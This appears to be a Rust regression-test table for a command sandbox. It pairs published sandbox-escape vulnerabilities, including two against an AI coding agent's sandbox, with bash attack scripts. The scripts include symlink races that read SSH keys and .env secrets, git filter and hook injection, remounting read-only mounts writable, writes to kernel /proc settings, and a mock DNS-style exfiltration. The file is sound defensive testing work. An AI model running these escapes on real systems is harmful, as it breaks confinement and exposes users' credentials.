//! Published attacks on sandboxes: on resources that a command inside can reach, on names that it leaves, and on the
//! helpers outside that copy, sweep and keep state.

/// An attack by a command in a sandbox.
#[derive(Debug)]
pub(super) struct Live {
    /// Its published name.
    pub(super) id: &'static str,
    /// How it works, in a few words.
    pub(super) attack: &'static str,
    /// Sandboxes that must prevent it.
    pub(super) tiers: &'static [Tier],
    /// Whether it succeeds without a sandbox, which proves that it is an attack.
    pub(super) control: Control,
    /// Bash script of the attack: `box` runs a command in the sandbox, in the workspace `$W`, with the options
    /// `$OPTIONS`. `$B` is a directory around it, `$N` a word that must remain unknown inside.
    pub(super) script: &'static str,
    /// Command that succeeds afterwards, outside, if the attack did; `$OUT` is the printed output.
    pub(super) escaped: &'static str,
}

/// Kind of sandbox.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Tier {
    Native,
    Bwrap,
    Landlock,
}

impl Tier {
    pub(super) const ALL: &[Self] = &[Self::Native, Self::Bwrap, Self::Landlock];

    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::Native => "native",
            Self::Bwrap => "bwrap",
            Self::Landlock => "landlock",
        }
    }
}

/// Whether an attack succeeds without a sandbox.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Control {
    Succeeds,
    /// It attacks something that exists only with a sandbox, or needs rights that are missing here.
    SaysNothing,
}
use Control::{SaysNothing, Succeeds};

/// Landlock cannot protect existing files from changes, and reports that.
const WITH_NAMES: &[Tier] = &[Tier::Native, Tier::Bwrap];

pub(super) const CASES: &[Live] = &[
    Live {
        id: "CVE-2026-120699",
        attack: "the user who starts a sandbox mounts the machine writable into it",
        tiers: Tier::ALL,
        control: SaysNothing,
        script: "mkdir $HOME/.ssh; for at in / /etc $HOME $HOME/.ssh /usr; do OPTIONS=\"--rw $at\" box true && echo LET-IN; done",
        escaped: "grep -q LET-IN $OUT",
    },
    Live {
        id: "CVE-2026-103916",
        attack: "the folder around what is taken away becomes a link meanwhile",
        tiers: WITH_NAMES,
        control: SaysNothing,
        script: "mkdir $B/canary; echo $N > $B/canary/.envrc; ln -s $B/canary link
            swap='while :; do mkdir -p d; mv -T d e; mv -T link d; mv -T d link; rm -rf e; done'
            box timeout 6 sh -c \"$swap\" & for i in $(seq 8); do box sh -c 'mkdir -p d; echo x > d/.envrc'; done; wait",
        escaped: "! grep -q $N $B/canary/.envrc",
    },
    Live {
        id: "CVE-2026-109569",
        attack: "another process is entered, and with it its view of the disk",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "echo $N > $B/secret; sleep 60 & p=$!
            box sh -c \"cat /proc/$p/root$B/secret /proc/1/root$B/secret; nsenter -t $p -m cat $B/secret\"; kill $p",
        escaped: "grep -q $N $OUT",
    },
    Live {
        id: "CVE-2026-94422",
        attack: "a bus of the session is asked to start what it likes",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "mkdir -p $B/run; export DBUS_SESSION_BUS_ADDRESS=unix:path=$B/run/bus
            python3 -c \"import socket,sys
s=socket.socket(socket.AF_UNIX); s.bind('$B/run/bus'); s.listen(1); s.settimeout(4); print('ready', flush=True)
try: s.accept(); print('REACHED', flush=True)
except OSError: pass\" & until grep -q ready $OUT; do sleep 0.1; done
            box python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect('$B/run/bus')\"; box env; wait",
        escaped: "grep -q -e REACHED -e ^DBUS_SESSION $OUT",
    },
    Live {
        id: "CVE-2026-77179",
        attack: "a file that is written from outside is unlinked, and a link stands in its place",
        tiers: Tier::ALL,
        control: SaysNothing,
        script: "mkdir $B/canary; echo $N > $B/canary/log; mkdir out; box sh -c \"echo a; rm -rf out; ln -s $B/canary out; seq 9999\" > out/log",
        escaped: "test \"$(cat $B/canary/log)\" != $N",
    },
    Live {
        id: "CVE-2026-19593, by a command",
        attack: "attributes and a filter that git of the host runs",
        tiers: WITH_NAMES,
        control: Succeeds,
        script: "git init -q .; echo a > f; git add f; git commit -qm a
            box sh -c \"echo '* filter=x' | tee .gitattributes > .git/info/attributes; git config filter.x.clean 'touch $B/ran; cat'; \
            printf '[filter \\\"x\\\"]\\n clean = touch $B/ran; cat\\n' >> .git/config; echo b > f\"
            git add -A; git status",
        escaped: "test -e $B/ran",
    },
    Live {
        id: "CVE-2026-39861",
        attack: "a link that is made inside is followed outside: git writes to the log that leads to a file of the user",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "git init -q .; echo a > f; git add f; git commit -qm a; echo $N > $B/bashrc; echo $N > $B/message; mkdir $B/start
            box sh -c \"git config user.name 'x; touch $B/ran'; git config user.email a@b
            rm -f .git/logs/HEAD .git/COMMIT_EDITMSG; ln -s $B/bashrc .git/logs/HEAD; ln -s $B/message .git/COMMIT_EDITMSG
            mv .git/logs/refs .git/logs/r; ln -s $B/start .git/logs/refs; ln -s $B/notes notes.txt; git init -q n; ln -s $B/message n/.git/COMMIT_EDITMSG\"
            echo b >> f; git commit -qam b; cd n && git add . && git commit -qm b --allow-empty; cd ..
            grep -q notes.txt $OUT || echo UNSAID",
        escaped: "grep -q -e 'touch' $B/bashrc || ! grep -q $N $B/message || test -e $B/start/heads || grep -q UNSAID $OUT",
    },
    Live {
        id: "CVE-2026-72183",
        attack: "signals that the kernel sends for input go to processes outside",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "sleep 60 & p=$!; box python3 -c \"import fcntl,os
r,w=os.pipe()
for owner in ($p, -os.getpgid(0)) if $p else ():
    try:
        fcntl.fcntl(r, fcntl.F_SETOWN, owner); fcntl.fcntl(r, 10, 9)
        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK); os.write(w, b'x'); break
    except OSError as e: print(e)\"; sleep 0.3; kill -0 $p && echo ALIVE; kill $p",
        escaped: "! grep -q ALIVE $OUT",
    },
    Live {
        id: "CVE-2026-46406",
        attack: "state and temporary files that others may read, or that a link was planted for",
        tiers: WITH_NAMES,
        control: SaysNothing,
        script: "umask 0; box sh -c 'echo x > .envrc; mkdir .vscode; echo x > .vscode/tasks.json'; find $HOME/.local/state/stockade > $B/found",
        escaped: "! test -s $B/found || find $HOME/.local/state/stockade -maxdepth 1 -perm /077 | grep -q .",
    },
    Live {
        id: "CVE-2026-12039",
        attack: "questions about names carry data out",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "python3 -c \"import socket
s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 0)); s.settimeout(4); print('port', s.getsockname()[1], flush=True)
try: s.recv(100); print('HEARD', flush=True)
except OSError: pass\" & until grep -q ^port $OUT; do sleep 0.1; done; port=$(awk '/^port/ {print $2}' $OUT)
            box python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.example', ('127.0.0.1', $port))\"; wait",
        escaped: "grep -q HEARD $OUT",
    },
    Live {
        id: "CVE-2026-105452",
        attack: "another key goes along with the one that is put in, or in its place",
        tiers: &[Tier::Native],
        control: SaysNothing,
        script: "serve; box env A=http://$at sh -c 'bearer=\"Authorization: Bearer\"
            curl -s -H \"$bearer $T\" -H \"x-api-key: of-another-user\" $A; curl -s -H \"$bearer $T\" \"$A/?key=of-another-user\"
            curl -s -H \"$bearer of-another-user\" $A; curl -s -u me:of-another-user $A; curl -s -b session=of-another-user $A
            curl -s -H \"$bearer $T\" $A/ordinary'",
        escaped: "grep -q of-another-user $B/log || ! grep -q user-$N $B/log || grep -q user-$N $OUT",
    },
    Live {
        id: "CVE-2026-101998",
        attack: "a secret comes back in two pieces, compressed, or before the connection breaks",
        tiers: &[Tier::Native],
        control: SaysNothing,
        script: "serve; box env A=http://$at sh -c 'for how in plain reset gzip br; do
            curl -s -H \"Authorization: Bearer $T\" $A/$how > got; cat got; gunzip < got; done'",
        escaped: "grep -q user-$N $OUT || ! grep -q user-$N $B/log || ! grep -q \"you said Bearer\" $OUT",
    },
    Live {
        id: "CVE-2026-86414",
        attack: "a proxy that asks for authentication gets a secret for a host",
        tiers: &[Tier::Native],
        control: SaysNothing,
        script: "serve; box sh -c 'curl -sv http://of-no-user.example/; curl -sv https://of-no-user.example/'",
        escaped: "grep -qE 'HTTP/[0-9.]+ 40[17]|[Pp]roxy-[Aa]uthenticate' $OUT || ! grep -q 'HTTP/1.1 403' $OUT",
    },
    Live {
        id: "CVE-2026-46695",
        attack: "what was mounted to be read is mounted once more, to be written",
        tiers: Tier::ALL,
        control: SaysNothing,
        script: "mkdir $B/given; OPTIONS=\"--ro $B/given\" box sh -c \"mount -o remount,rw,bind $B/given; mount -o remount,rw $B/given; \
            unshare -Urm sh -c 'mount -o remount,rw,bind $B/given; touch $B/given/x'; touch $B/given/x\"",
        escaped: "test -e $B/given/x",
    },
    Live {
        id: "CVE-2026-34078",
        attack: "what was looked at becomes a link before it is mounted",
        tiers: Tier::ALL,
        control: SaysNothing,
        script: "mkdir -p $HOME/.ssh $B/given; echo $N > $HOME/.ssh/id_rsa; ln -s $HOME/.ssh $B/link
            (while :; do mv -T $B/given $B/aside; mv -T $B/link $B/given; mv -T $B/given $B/link; mv -T $B/aside $B/given; done) & p=$!
            for i in $(seq 20); do OPTIONS=\"--ro $B/given\" box cat $B/given/id_rsa; done; kill $p",
        escaped: "grep -q $N $OUT",
    },
    Live {
        id: "CVE-2025-68736",
        attack: "a folder that is moved away while a command is in it leads out",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "mkdir -p in $B/away; echo $N > $B/away/secret
            box sh -c 'cd in; touch ../here; while test -e ../here; do sleep 0.1; done; sleep 0.3; cat ../secret; ls ..' &
            until test -e here; do sleep 0.1; done; mv in $B/away/in; rm here; wait",
        escaped: "grep -q $N $OUT",
    },
    Live {
        id: "CVE-2024-42318",
        attack: "a call that puts the keys of a process on its parent frees it",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "box python3 -c \"import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(250, 1, None) >= 0 and libc.syscall(250, 0, -3, 1) >= 0: print('KEYS')\"",
        escaped: "grep -q KEYS $OUT",
    },
    Live {
        id: "GHSA-27vp-2mmc-vmh3",
        attack: "datagrams reach a socket of the host where connections do not",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "mkdir -p deep/node_modules; python3 -c \"import socket
s=socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind('$W/deep/node_modules/s'); s.settimeout(4); print('ready', flush=True)
try: s.recv(100); print('HEARD', flush=True)
except OSError: pass\" & until grep -q ready $OUT; do sleep 0.1; done
            box python3 -c \"import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '$W/deep/node_modules/s')\"; wait",
        escaped: "grep -q HEARD $OUT",
    },
    Live {
        id: "Claude Code 2.1.232, hooks",
        attack: "a repository within the repository has hooks that the host runs",
        tiers: Tier::ALL,
        control: Succeeds,
        script: "box sh -c \"git init -q sub; printf '#!/bin/sh\\ntouch $B/ran\\n' > sub/.git/hooks/pre-commit; chmod +x sub/.git/hooks/pre-commit; echo x > sub/f\"
            git -C sub add f; git -C sub commit -qm x",
        escaped: "test -e $B/ran",
    },
    Live {
        id: "Claude Code 2.1.217, links",
        attack: "`.claude`, or what lies in it, becomes a link after it was looked at",
        tiers: WITH_NAMES,
        control: Succeeds,
        script: "mkdir -p app/.claude; echo $N > app/.claude/settings.json
            box sh -c 'mkdir mine; echo evil > mine/settings.json; ln -s mine .claude; ln -sfn ../../mine/settings.json app/.claude/settings.json; \
            mv app old; mkdir app; ln -s ../mine app/.claude'",
        escaped: "test -e .claude || grep -q evil app/.claude/settings.json",
    },
    Live {
        id: "CVE-2026-31431",
        attack: "sockets of the kernel's crypto API write to files that are only readable",
        tiers: Tier::ALL,
        control: SaysNothing,
        script: "box python3 -c \"import socket
for kind in (5, 2, 1):
    try: socket.socket(38, kind, 0); print('REACHED')
    except OSError as e: print(e)\"",
        escaped: "grep -q REACHED $OUT",
    },
    Live {
        id: "GHSA-pxhw-h44j-8pfx",
        attack: "a link on the way to a mount point leads what is made during setup to files outside",
        tiers: Tier::ALL,
        control: SaysNothing,
        script: "mkdir $B/canary d; echo x > d/.envrc; echo KEY=$N > d/.env; ln -s $B/canary link
            (while :; do mv -T d e; mv -T link d; mv -T d link; mv -T e d; done) & p=$!
            for i in $(seq 15); do box true; done; kill $p",
        escaped: "find $B/canary -mindepth 1 | grep -q .",
    },
    Live {
        id: "CVE-2025-31133",
        attack: "a file that is to be hidden is a link when it is hidden",
        tiers: WITH_NAMES,
        control: Succeeds,
        script: "echo KEY=$N > .env; echo x > other
            box timeout 6 sh -c 'while :; do mv -T .env e; ln -s other .env; rm -f .env; mv -T e .env; done' &
            for i in $(seq 8); do box sh -c 'cat .env e'; done; wait",
        escaped: "grep -q $N $OUT",
    },
    Live {
        id: "CVE-2025-52565",
        attack: "the console of the sandbox is a device of the machine",
        tiers: Tier::ALL,
        control: SaysNothing,
        script: "box sh -c 'for device in /dev/console /dev/tty0 /dev/ttyS0 /dev/mem /dev/kmsg /dev/sda /dev/vda; do (: > $device) && test -c $device && echo REACHED; done'",
        escaped: "grep -q REACHED $OUT",
    },
    Live {
        id: "CVE-2025-52881",
        attack: "settings of the kernel are written through its file system",
        tiers: Tier::ALL,
        control: SaysNothing,
        script: "box sh -c 'for file in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/kernel/modprobe /sys/kernel/uevent_helper; do (: >> $file) && echo REACHED $file; done'",
        escaped: "grep -q REACHED $OUT",
    },
];
